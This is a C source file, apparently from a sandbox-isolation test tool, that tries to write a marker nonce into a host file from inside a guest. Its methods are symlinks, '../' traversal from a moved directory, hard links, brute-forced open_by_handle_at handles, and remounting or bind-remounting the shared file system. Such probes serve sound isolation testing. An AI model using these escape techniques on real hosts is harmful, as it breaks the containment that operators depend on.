/*
 * tech_share_linux.c - from a shared directory to the rest of the host's file system.
 *
 * path= is a file of the host's that no mount of the guest's leads to (or leads to read-only), and
 * dir= a directory the guest may write. Wherever the file's content can be changed, it gets the
 * nonce.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "root_linux.h"
#include "techniques.h"

/* Nothing is made in a directory that nobody named. */
static bool told(const struct probe_step *step, struct probe_outcome *out)
{
    bool both = probe_param(step, "path", NULL) != NULL && probe_param(step, "dir", NULL) != NULL;
    if (!both)
        probe_try(out, PROBE_ERROR, EINVAL, "needs path= and dir=");
    return both;
}

static const char *path_of(const struct probe_step *step)
{
    return probe_param(step, "path", "/");
}

static const char *folder_of(const struct probe_step *step)
{
    return probe_param(step, "dir", ".");
}

static void write_fd(const struct probe_step *step, int fd, const char *what,
                     struct probe_outcome *out)
{
    if (fd < 0 || !probe_write(fd, step->nonce, PROBE_NONCE))
        probe_try_errno(out, errno, "%s", what);
    else
        probe_try(out, PROBE_SENT, 0, "%s: written", what);
    if (fd >= 0)
        close(fd);
}

static void write_at(const struct probe_step *step, int dir, const char *path, const char *what,
                     struct probe_outcome *out)
{
    write_fd(step, openat(dir, path, O_WRONLY | O_APPEND | O_CLOEXEC), what, out);
}

/* A link with the file's absolute path: whoever follows it decides whose root that starts from. */
static void share_symlink(const struct probe_step *step, struct probe_outcome *out)
{
    char link[PROBE_PATH];
    snprintf(link, sizeof link, "%.100s/%s", folder_of(step), step->nonce);
    if (symlink(path_of(step), link) != 0)
        probe_try_errno(out, errno, "symlink");
    else
        write_at(step, AT_FDCWD, link, "through the link", out);
}

/* Up and out: by name, and from a directory that is moved away while it is held open. */
static void share_dotdot(const struct probe_step *step, struct probe_outcome *out)
{
    char up[PROBE_PATH] = "", moved[PROBE_PATH], below[PROBE_PATH + 8];
    for (int depth = 0; depth < 12; depth++)
        strcat(up, "../");
    strncat(up, path_of(step) + 1, sizeof up - strlen(up) - 1);
    snprintf(moved, sizeof moved, "%.100s/%s", folder_of(step), step->nonce);
    snprintf(below, sizeof below, "%s/below", moved);
    mkdir(moved, 0755);
    mkdir(below, 0755);
    int share = open(folder_of(step), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int held = open(below, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    write_at(step, share, up, "above the share", out);
    if (rename(below, "/tmp/firma-below") == 0 || rmdir(below) == 0)
        rmdir(moved);
    write_at(step, held, up, "above a directory that is gone", out);
    if (held >= 0)
        close(held);
    if (share >= 0)
        close(share);
}

/* A hard link from where the file may not be written to where everything may. */
static void share_hardlink(const struct probe_step *step, struct probe_outcome *out)
{
    char link_path[PROBE_PATH];
    snprintf(link_path, sizeof link_path, "%.100s/%s", folder_of(step), step->nonce);
    if (linkat(AT_FDCWD, path_of(step), AT_FDCWD, link_path, 0) != 0)
        probe_try_errno(out, errno, "link");
    else
        write_at(step, AT_FDCWD, link_path, "through the hard link", out);
}

/* ---- handles: a number instead of a path (open_by_handle_at(2)) ---- */

static void try_handle(const struct probe_step *step, int share, struct file_handle *handle,
                       struct probe_outcome *out)
{
    int fd = open_by_handle_at(share, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        probe_try_errno(out, errno, "handle");
        return;
    }
    char up[PROBE_PATH] = "../../../../../../../..";
    strncat(up, path_of(step), sizeof up - strlen(up) - 1);
    write_at(step, fd, up, "above a handle", out);
    write_at(step, fd, path_of(step) + 1, "below a handle", out);
    close(fd);
}

static void share_handle(const struct probe_step *step, struct probe_outcome *out)
{
    union {
        struct file_handle handle;
        unsigned char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } at = {.handle.handle_bytes = MAX_HANDLE_SZ};
    int mount_id, share = open(folder_of(step), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (share < 0 || name_to_handle_at(share, "", &at.handle, &mount_id, AT_EMPTY_PATH) != 0) {
        probe_try_errno(out, errno, "handle of %s", folder_of(step));
    } else {
        try_handle(step, share, &at.handle, out);
        /* The same file system's other directories: the node's number leads the handle. */
        for (unsigned char node = 0; node < 8; node++) {
            memset(at.handle.f_handle, 0, at.handle.handle_bytes);
            at.handle.f_handle[0] = node;
            try_handle(step, share, &at.handle, out);
        }
    }
    if (share >= 0)
        close(share);
    /* And simply by the path, where nothing is in the way. */
    write_at(step, AT_FDCWD, path_of(step), "by its path", out);
}

/* ---- the shared file system once more, mounted by the guest's root as it likes ---- */

static void write_below(const struct probe_step *step, const char *place, struct probe_outcome *out)
{
    const char *name = strrchr(path_of(step), '/');
    char path[PROBE_PATH];
    for (int share = 0; share < 8; share++) {
        snprintf(path, sizeof path, "%s/%d%.64s", place, share, name == NULL ? "" : name);
        if (access(path, F_OK) == 0 || errno != ENOENT)
            write_at(step, AT_FDCWD, path, path, out);
    }
    snprintf(path, sizeof path, "%s%.100s", place, name == NULL ? "" : name);
    if (access(path, F_OK) == 0)
        write_at(step, AT_FDCWD, path, path, out);
}

/* The type and the source of the file system that holds PATH's directory, from /proc/mounts. */
static bool shared_source(const char *folder, char source[64], char type[32])
{
    char line[1024], target[256], from[256], kind[64];
    bool found = false;
    FILE *mounts = fopen("/proc/self/mounts", "re");
    while (mounts != NULL && fgets(line, sizeof line, mounts) != NULL) {
        if (sscanf(line, "%255s %255s %63s", from, target, kind) == 3 &&
            strcmp(target, folder) == 0) {
            snprintf(source, 64, "%.63s", from);
            snprintf(type, 32, "%.31s", kind);
            found = true;
        }
    }
    if (mounts != NULL)
        fclose(mounts);
    return found;
}

static bool mount_again(const char *source, const char *type, const char *place,
                        struct probe_outcome *out)
{
    if (mount(source, place, type, 0, NULL) == 0)
        return true;
    probe_try_errno(out, errno, "mount %s %s", type, source);
    return false;
}

/* Where directories below are file systems of their own, the kernel hands out whichever of them it
 * made last, and the one with the file may never come. A second mount of the directory itself can
 * be had without the bars of the first (mount(2), MS_BIND). */
static void write_cloned(const struct probe_step *step, const char *place,
                         struct probe_outcome *out)
{
    const char *name = strrchr(path_of(step), '/');
    char path[PROBE_PATH];
    snprintf(path, sizeof path, "%s%.64s", place, name == NULL ? "" : name);
    if (mount(folder_of(step), place, NULL, MS_BIND, NULL) != 0 ||
        mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL) != 0)
        probe_try_errno(out, errno, "mount %s once more", folder_of(step));
    write_at(step, AT_FDCWD, path, path, out);
    umount2(place, MNT_DETACH);
}

/* A share's name is not always to be read from /proc/mounts; these are the customary ones. */
static void share_mount(const struct probe_step *step, struct probe_outcome *out)
{
    static const char place[] = "/tmp/firma-share";
    char source[64] = "none", type[32] = "virtiofs";
    const char *const sources[] = {source,      "firma",  "share",
                                   "shared",    "share0", "mount0",
                                   "hostshare", "rootfs", "com.apple.virtio-fs.automount"};
    mkdir(place, 0700);
    shared_source(folder_of(step), source, type);
    for (size_t i = 0; i < sizeof sources / sizeof *sources; i++) {
        if (!mount_again(sources[i], type, place, out))
            continue;
        probe_try(out, PROBE_ERROR, 0, "mounted %s %s", type, sources[i]);
        write_below(step, place, out);
        umount2(place, MNT_DETACH);
        break;
    }
    write_cloned(step, place, out);
    write_at(step, AT_FDCWD, path_of(step), "by its path", out);
}

void probe_tech_share_symlink(const struct probe_step *step, struct probe_outcome *out)
{
    if (told(step, out))
        share_symlink(step, out);
}

void probe_tech_share_dotdot(const struct probe_step *step, struct probe_outcome *out)
{
    if (told(step, out))
        share_dotdot(step, out);
}

void probe_tech_share_hardlink(const struct probe_step *step, struct probe_outcome *out)
{
    if (told(step, out))
        share_hardlink(step, out);
}

void probe_tech_share_handle(const struct probe_step *step, struct probe_outcome *out)
{
    if (told(step, out))
        share_handle(step, out);
}

void probe_tech_share_mount(const struct probe_step *step, struct probe_outcome *out)
{
    if (told(step, out))
        share_mount(step, out);
}
